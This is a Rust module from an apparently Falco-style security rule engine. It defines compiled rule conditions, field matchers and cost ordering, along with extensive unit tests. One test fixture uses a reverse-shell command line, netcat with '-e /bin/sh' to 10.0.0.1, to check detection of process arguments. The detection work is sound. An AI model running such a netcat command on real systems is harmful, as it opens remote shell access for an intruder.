//! Compiled conditions: a tree of tests on field values. Evaluating one cannot fail, allocate or do I/O, and
//! takes time linear in the texts that it looks at.

use super::ast::{Op, Quantifier};
use super::network::Networks;
use super::operand::Derived;
use super::path::Paths;
use super::pattern::{FoldedTexts, Glob, Needle, Needles, Pattern, Texts};
use crate::event::field::{Field, Get, Value, Values};

/// A compiled condition.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub enum Node {
    /// All hold; cheap ones first.
    And(Box<[Node]>),
    /// One holds; cheap ones first. Without parts: never.
    Or(Box<[Node]>),
    /// It does not hold.
    Not(Box<Node>),
    /// A test of a field.
    Test(Box<Test>),
    /// A test of more than a field's values one by one.
    Derived(Box<Derived>),
}

impl Node {
    /// Whether the condition holds for an event.
    pub fn holds(&self, values: &impl Values) -> bool {
        match self {
            Node::And(parts) => parts.iter().all(|part| part.holds(values)),
            Node::Or(parts) => parts.iter().any(|part| part.holds(values)),
            Node::Not(part) => !part.holds(values),
            Node::Test(test) => test.holds(values),
            Node::Derived(derived) => derived.holds(values),
        }
    }

    /// About how long it takes, to put cheap tests first.
    pub fn cost(&self) -> u32 {
        match self {
            Node::And(parts) | Node::Or(parts) => parts.iter().map(Node::cost).sum(),
            Node::Not(part) => part.cost(),
            Node::Test(test) => field_cost(test.field, test.index) + test.matcher.cost(),
            Node::Derived(derived) => derived.cost(),
        }
    }
}

/// About how long it takes to get a field's values.
pub fn field_cost(field: &Field, index: Option<u32>) -> u32 {
    match (field.get, index) {
        (Get::One(_) | Get::Nothing, _) => 1,
        (Get::Keyed(_), _) => 5,
        (Get::Ancestors(_) | Get::Indexed(_), Some(index)) => 1 + index.min(20),
        (Get::Ancestors(_) | Get::Many(_) | Get::Indexed(_), _) => 20,
    }
}

/// A test of one field.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub struct Test {
    /// Which field.
    pub field: &'static Field,
    /// The number in brackets.
    pub index: Option<u32>,
    /// What its value must be like; of several values, one of them.
    pub matcher: Matcher,
}

impl Test {
    /// Whether one of the field's values is so.
    pub fn holds(&self, values: &impl Values) -> bool {
        values.any(self.field, self.index, &mut |value| self.matcher.matches(&value))
    }
}

impl std::fmt::Debug for Field {
    fn fmt(&self, out: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        out.write_str(self.name)
    }
}

/// What a value must be like.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub enum Matcher {
    /// There is one.
    Exists,
    /// This text, or any other if the flag is false.
    Text(Box<[u8]>, bool),
    /// This text in upper or lower case (ASCII).
    Folded(Box<[u8]>),
    /// One of these texts.
    Texts(Texts),
    /// One of these texts in upper or lower case (ASCII).
    FoldedTexts(FoldedTexts),
    /// A text that begins so.
    Prefix(Box<[u8]>),
    /// A text that begins so, in upper or lower case (ASCII).
    FoldedPrefix(Box<[u8]>),
    /// A text that ends so.
    Suffix(Box<[u8]>),
    /// A text that ends so, in upper or lower case (ASCII).
    FoldedSuffix(Box<[u8]>),
    /// A text that has this in it.
    Find(Box<Needle>),
    /// A text that has one of these in it.
    FindAny(Box<Needles>),
    /// A text like this pattern.
    Glob(Glob),
    /// A text like this expression.
    Pattern(Box<Pattern>),
    /// A path that is one of these or below it.
    Paths(Box<Paths>),
    /// A text that compares so, byte by byte.
    Order(Op, Box<[u8]>),
    /// A number that compares so.
    Number(Op, i64),
    /// One of these numbers, which are sorted.
    Numbers(Box<[i64]>),
    /// This truth.
    Bool(bool),
    /// An address in one of these networks, or in none if the flag is false.
    Addresses(Box<Networks>, bool),
    /// A value that so many of these hold for; none if there are none.
    Quantified(Quantifier, Box<[Matcher]>),
}

impl Matcher {
    /// One that nothing matches.
    pub fn never() -> Self {
        Matcher::Quantified(Quantifier::Any, Box::default())
    }

    /// Whether a value is so.
    pub fn matches(&self, value: &Value<'_>) -> bool {
        match (self, value) {
            (Matcher::Exists, _) => true,
            (Matcher::Bool(wanted), Value::Bool(value)) => wanted == value,
            (Matcher::Number(op, wanted), Value::Number(value)) => op.orders(value, wanted),
            (Matcher::Numbers(wanted), Value::Number(value)) => wanted.binary_search(value).is_ok(),
            (Matcher::Addresses(networks, wanted), Value::Address(address)) => {
                networks.contain(*address) == *wanted
            }
            (Matcher::Quantified(quantifier, matchers), value) => {
                !matchers.is_empty()
                    && quantifier.holds(matchers.iter().map(|matcher| matcher.matches(value)))
            }
            (matcher, value) => value.text().is_some_and(|text| matcher.matches_text(text)),
        }
    }

    fn matches_text(&self, text: &[u8]) -> bool {
        match self {
            Matcher::Text(wanted, equal) => (**wanted == *text) == *equal,
            Matcher::Folded(wanted) => wanted.eq_ignore_ascii_case(text),
            Matcher::Texts(wanted) => wanted.contains(text),
            Matcher::FoldedTexts(wanted) => wanted.contains(text),
            Matcher::Prefix(prefix) => text.starts_with(prefix),
            Matcher::FoldedPrefix(prefix) => starts_folded(text, prefix),
            Matcher::Suffix(suffix) => text.ends_with(suffix),
            Matcher::FoldedSuffix(suffix) => ends_folded(text, suffix),
            Matcher::Find(needle) => needle.is_in(text),
            Matcher::FindAny(needles) => needles.are_in(text),
            Matcher::Glob(glob) => glob.matches(text),
            Matcher::Pattern(pattern) => pattern.matches(text),
            Matcher::Paths(paths) => paths.cover(text),
            Matcher::Order(op, wanted) => op.orders(text, wanted),
            Matcher::Exists
            | Matcher::Number(..)
            | Matcher::Numbers(_)
            | Matcher::Bool(_)
            | Matcher::Addresses(..)
            | Matcher::Quantified(..) => false,
        }
    }

    /// About how long it takes.
    pub fn cost(&self) -> u32 {
        match self {
            Matcher::Exists | Matcher::Bool(_) | Matcher::Number(..) => 0,
            Matcher::Text(..)
            | Matcher::Folded(_)
            | Matcher::Prefix(_)
            | Matcher::FoldedPrefix(_)
            | Matcher::Suffix(_)
            | Matcher::FoldedSuffix(_)
            | Matcher::Order(..) => 1,
            Matcher::Numbers(_) | Matcher::Addresses(..) => 2,
            Matcher::Texts(_) | Matcher::FoldedTexts(_) => 3,
            Matcher::Find(_) => 5,
            Matcher::FindAny(_) | Matcher::Glob(_) | Matcher::Paths(_) => 8,
            Matcher::Pattern(_) => 30,
            Matcher::Quantified(_, matchers) => matchers.iter().map(Matcher::cost).sum(),
        }
    }
}

impl Op {
    /// Whether two values stand to each other as `=`, `!=`, `<` and so on say; any other operator is taken for `=`.
    pub fn orders<T: PartialOrd + ?Sized>(self, left: &T, right: &T) -> bool {
        match self {
            Op::Ne => left != right,
            Op::Lt => left < right,
            Op::Le => left <= right,
            Op::Gt => left > right,
            Op::Ge => left >= right,
            _ => left == right,
        }
    }
}

impl Quantifier {
    /// Whether so many are true.
    pub fn holds(self, mut each: impl Iterator<Item = bool>) -> bool {
        match self {
            Quantifier::One => each.filter(|holds| *holds).take(2).count() == 1,
            Quantifier::Any => each.any(|holds| holds),
            Quantifier::All => each.all(|holds| holds),
        }
    }
}

/// Whether a text begins so, in upper or lower case (ASCII).
pub fn starts_folded(text: &[u8], prefix: &[u8]) -> bool {
    text.get(..prefix.len()).is_some_and(|start| start.eq_ignore_ascii_case(prefix))
}

/// Whether a text ends so, in upper or lower case (ASCII).
pub fn ends_folded(text: &[u8], suffix: &[u8]) -> bool {
    let start = text.len().checked_sub(suffix.len());
    start.is_some_and(|start| text[start..].eq_ignore_ascii_case(suffix))
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use crate::diagnostic::{Source, render};
    use crate::rules::{Filter, example};
    use crate::testing::{self, with_subject};
    use crate::yaml;

    /// Whether a condition holds for an event with these values, which are written as in a rule's examples.
    fn holds(condition: &str, event: &str) -> bool {
        let source = Arc::new(Source { name: "event".to_owned(), text: format!("{{{event}}}") });
        let documents = yaml::parse(&source).unwrap();
        let event = example::event(&documents[0], false).unwrap();
        filter(condition).matches(&event)
    }

    fn filter(condition: &str) -> Filter {
        Filter::from_text(condition, "t")
            .unwrap_or_else(|found| panic!("{condition}\n{}", render(&found, false)))
    }

    #[test]
    fn operators_hold_for_what_falco_has_them_hold_for() {
        for (condition, event, expected) in [
            ("proc.name = a", "proc.name: a", true),
            ("proc.name == a", "proc.name: b", false),
            ("proc.name != a", "proc.name: b", true),
            ("proc.name != a", "proc.pid: 1", false),
            ("not proc.name = a", "proc.pid: 1", true),
            ("proc.name < b", "proc.name: a", true),
            ("proc.name >= b", "proc.name: a", false),
            ("fd.num < 0x10", "fd.num: 15", true),
            ("fd.num <= 1.5", "fd.num: 1", true),
            ("fd.num >= 1.5", "fd.num: 1", false),
            ("fd.num > -1", "fd.num: 0", true),
            ("evt.rawres = 0xffffffffffffffff", "evt.rawres: -1", true),
            ("fd.num in (3, 0x4)", "fd.num: 4", true),
            ("fd.num in (3, 0x4)", "fd.num: 5", false),
            ("evt.failed in (true)", "evt.failed: true", true),
            ("evt.failed != true", "evt.failed: false", true),
            ("fd.rip = 10.0.0.0/8", "fd.rip: 10.2.3.4", true),
            ("fd.rip != 10.0.0.0/8", "fd.rip: 10.2.3.4", false),
            ("fd.rip != 10.0.0.0/8", "fd.rip: '::1'", true),
            ("fd.rip in (192.168.0.1, \"10.0.0.0/8\", fd00::/8)", "fd.rip: 'fd00::1'", true),
            ("fd.rip in (192.168.0.1, \"10.0.0.0/8\", fd00::/8)", "fd.rip: 192.168.0.2", false),
            ("fd.name contains b", "fd.name: /a/b", true),
            ("fd.name contains B", "fd.name: /a/b", false),
            ("fd.name icontains /A/B", "fd.name: x/a/bx", true),
            ("fd.name bcontains 2f62", "fd.name: /a/b", true),
            ("fd.name bstartswith 2F61", "fd.name: /a/b", true),
            ("fd.name bstartswith 2f62", "fd.name: /a/b", false),
            ("fd.name startswith /a", "fd.name: /a/b", true),
            ("fd.name endswith /b", "fd.name: /a/b", true),
            ("fd.name endswith /a/a/b", "fd.name: /a/b", false),
            ("fd.name glob /*/b", "fd.name: /a/x/b", true),
            ("fd.name glob *a*", "fd.name: /a/x/b", true),
            ("fd.name glob /a", "fd.name: /a/x/b", false),
            ("fd.name iglob /A/?/*", "fd.name: /a/x/b", true),
            ("fd.name iglob *X*", "fd.name: /a/x/b", true),
            ("fd.name regex /a/.*", "fd.name: /a/x/b", true),
            ("fd.name regex /a", "fd.name: /a/x/b", false),
            ("fd.name search x", "fd.name: /a/x/b", true),
            ("fd.name search ^x", "fd.name: /a/x/b", false),
            ("fd.name iequals /A", "fd.name: /a", true),
            ("fd.name istartswith /A", "fd.name: /a/b", true),
            ("fd.name iendswith /B", "fd.name: /a/b", true),
            ("fd.name pmatch (/b, /a/x)", "fd.name: /a/x/b", true),
            ("fd.name pmatch (/a/xx)", "fd.name: /a/x/b", false),
            ("proc.name in (a, b)", "proc.name: b", true),
            ("proc.name intersects (a, b)", "proc.name: b", true),
            ("proc.name in ()", "proc.name: b", false),
            ("proc.name exists", "proc.name: b", true),
            ("proc.name exists", "proc.pid: 1", false),
            ("evt.dir=<", "evt.dir: <", true),
        ] {
            assert_eq!(holds(condition, event), expected, "{condition} of {event}");
        }
    }

    #[test]
    fn in_needs_all_of_a_list_and_one_of_the_ancestors() {
        for (condition, event, expected) in [
            ("dns.answers in (a, b)", "dns.answers: [a, b]", true),
            ("dns.answers in (a, b)", "dns.answers: [a, c]", false),
            ("dns.answers in (a, b)", "dns.answers: []", false),
            ("dns.answers intersects (a, b)", "dns.answers: [c, a]", true),
            ("dns.answers = a", "dns.answers: [c, a]", true),
            ("dns.answers != a", "dns.answers: [c, a]", true),
            ("dns.answers startswith c", "dns.answers: [b, ca]", true),
            ("proc.aname in (a)", "proc.aname: [c, a]", true),
            ("proc.aname[2] in (a)", "proc.aname: [c, a]", true),
            ("proc.aname[1] in (a)", "proc.aname: [c, a]", false),
        ] {
            assert_eq!(holds(condition, event), expected, "{condition} of {event}");
        }
    }

    #[test]
    fn quantifiers_count_the_values_that_a_test_holds_for() {
        for (condition, name, expected) in [
            ("proc.name = anyof (a, b)", "b", true),
            ("proc.name = anyof (a, b)", "c", false),
            ("proc.name != anyof (a, b)", "a", true),
            ("proc.name != allof (a, b)", "a", false),
            ("proc.name != allof (a, b)", "c", true),
            ("proc.name startswith oneof (a, ab)", "ab", false),
            ("proc.name startswith oneof (a, ab)", "ac", true),
            ("proc.name contains allof (a, b)", "xbay", true),
            ("proc.name contains allof (a, b)", "xby", false),
            ("proc.name contains anyof (a, b)", "xby", true),
            ("proc.name icontains anyof (A, B)", "xby", true),
            ("proc.name regex anyof (\"x.*\", \"y\")", "xby", true),
            ("proc.name iequals anyof (ABC, d)", "abC", true),
            ("proc.name iequals allof (ABC, abc)", "abC", true),
            ("proc.name iglob anyof (ABC, d*)", "Dx", true),
            ("proc.name = allof ()", "a", false),
            ("proc.name = oneof ()", "a", false),
        ] {
            assert_eq!(holds(condition, &format!("proc.name: {name}")), expected, "{condition} of {name}");
        }
    }

    #[test]
    fn transformers_make_values_of_values() {
        for (condition, event, expected) in [
            ("tolower(proc.name) = abc", "proc.name: aBC", true),
            ("toupper(proc.name) = ABC", "proc.name: aBc", true),
            ("tolower(proc.name) = abc", "proc.pid: 1", false),
            ("b64(proc.name) = shell", "proc.name: c2hlbGw=", true),
            ("b64(proc.name) = shell", "proc.name: c2hlbGw", true),
            ("b64(proc.name) exists", "proc.name: c2hlbGx", false),
            ("b64(proc.name) exists", "proc.name: 'c2 '", false),
            ("basename(fd.name) = b", "fd.name: /a/b", true),
            ("basename(fd.name) = b", "fd.name: b", true),
            ("basename(fd.name) = \"\"", "fd.name: /a/", true),
            ("len(fd.name) = 4", "fd.name: /a/b", true),
            ("len(dns.answers) = 2", "dns.answers: [c, a]", true),
            ("len(dns.answers) = 0", "dns.answers: []", false),
            ("text(fd.rip) startswith 10.", "fd.rip: 10.0.0.1", true),
            ("text(fd.num) = 7", "fd.num: 7", true),
            ("concat(fd.rip, \":\", fd.rport) in (\"8.8.8.8:53\")", "fd.rip: 8.8.8.8, fd.rport: 53", true),
            ("concat(fd.rip, \":\", fd.rport) exists", "fd.rip: 8.8.8.8", false),
            ("join(\", \", dns.answers) = \"c, a\"", "dns.answers: [c, a]", true),
            ("join(-, (proc.name, proc.pid, x)) = a-1-x", "proc.name: a, proc.pid: 1", true),
            ("tolower(toupper(basename(fd.name))) = b", "fd.name: /a/B", true),
            ("tolower(dns.answers) in (a, b)", "dns.answers: [A, B]", true),
            ("tolower(dns.answers) in (a, b)", "dns.answers: [A, C]", false),
            ("val(proc.name) = a", "proc.name: a", true),
        ] {
            assert_eq!(holds(condition, event), expected, "{condition} of {event}");
        }
    }

    #[test]
    fn options_are_found_as_a_program_finds_them() {
        for (condition, arguments, expected) in [
            ("getopt(proc.arg, \"nt:\") intersects (n)", "[-n]", true),
            ("getopt(proc.arg, \"nt:\") intersects (n)", "[x, -n]", false),
            ("getopt(proc.arg, \"nt:\") intersects (n)", "[--, -n]", false),
            ("getopt(proc.arg, \"nt:\") intersects (n)", "[--long, -n]", true),
            ("getopt(proc.arg, \"nt:\") intersects (n)", "[-t, -n]", false),
            ("getopt(proc.arg, \"nt:\") intersects (v)", "[-ntv]", true),
            ("getopt(proc.arg, \"nt:\") in (n, t, v)", "[-n, -t, v]", true),
            ("getopt(proc.arg, \"nt:\") in (n, t, v)", "[-nx]", false),
            ("getopt(proc.arg, \"nt:\") intersects (\"?\")", "[-nx]", true),
            ("getopt(proc.arg, \"nt:\")[t] = w", "[-tv, -t, w]", true),
            ("getopt(proc.arg, \"nt:\")[t] = v", "[-tv, -t, w]", false),
            ("getopt(proc.arg, \"nt:\")[t] = \"\"", "[-n, -t]", true),
            ("getopt(proc.arg, \"nt:\")[n] = n", "[-n, -t]", true),
            ("getopt(proc.arg, \"nt:\")[t] exists", "[-n]", false),
            ("len(getopt(proc.arg, \"nt:\")) = 3", "[-n, -t, v]", true),
        ] {
            assert_eq!(
                holds(condition, &format!("proc.arg: {arguments}")),
                expected,
                "{condition} of {arguments}"
            );
        }
    }

    #[test]
    fn two_fields_are_compared_with_each_other() {
        for (condition, event, expected) in [
            ("proc.name = val(proc.pname)", "proc.name: a, proc.pname: a", true),
            ("proc.name != val(proc.pname)", "proc.name: a, proc.pname: a", false),
            ("proc.name != val(proc.pname)", "proc.name: a", false),
            ("proc.pid > val(proc.ppid)", "proc.pid: 2, proc.ppid: 1", true),
            ("fd.rip = val(fd.lip)", "fd.rip: 10.0.0.1, fd.lip: 10.0.0.1", true),
            ("tolower(proc.name) = tolower(proc.pname)", "proc.name: Ab, proc.pname: aB", true),
            ("proc.name iequals val(proc.pname)", "proc.name: Ab, proc.pname: aB", true),
            ("proc.cmdline icontains val(proc.name)", "proc.cmdline: x AB y, proc.name: ab", true),
            ("proc.cmdline startswith val(proc.name)", "proc.cmdline: ab y, proc.name: ab", true),
            ("fd.name glob val(proc.name)", "fd.name: /etc/x, proc.name: '/etc/*'", true),
            ("proc.name in val(proc.aname)", "proc.name: a, proc.aname: [b, a]", true),
            ("dns.answers in val(proc.aname)", "dns.answers: [a, b], proc.aname: [b, a]", true),
            ("dns.answers in val(proc.aname)", "dns.answers: [a, c], proc.aname: [b, a]", false),
        ] {
            assert_eq!(holds(condition, event), expected, "{condition} of {event}");
        }
    }

    #[test]
    fn arguments_of_a_live_process_can_be_looked_at() {
        let records =
            [testing::exec(7, 1_000, (6, 500), "/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "a b"])];
        with_subject(&records, |subject| {
            for (condition, expected) in [
                ("proc.arg = \"a b\"", true),
                ("proc.arg intersects (nc)", false),
                ("getopt(proc.args, \"e:\")[e] = /bin/sh", true),
                ("join(\" \", proc.arg) = val(proc.args)", true),
                ("concat(proc.name, \" \", proc.args) = val(proc.cmdline)", true),
            ] {
                assert_eq!(filter(condition).matches(subject), expected, "{condition}");
            }
        });
    }
}
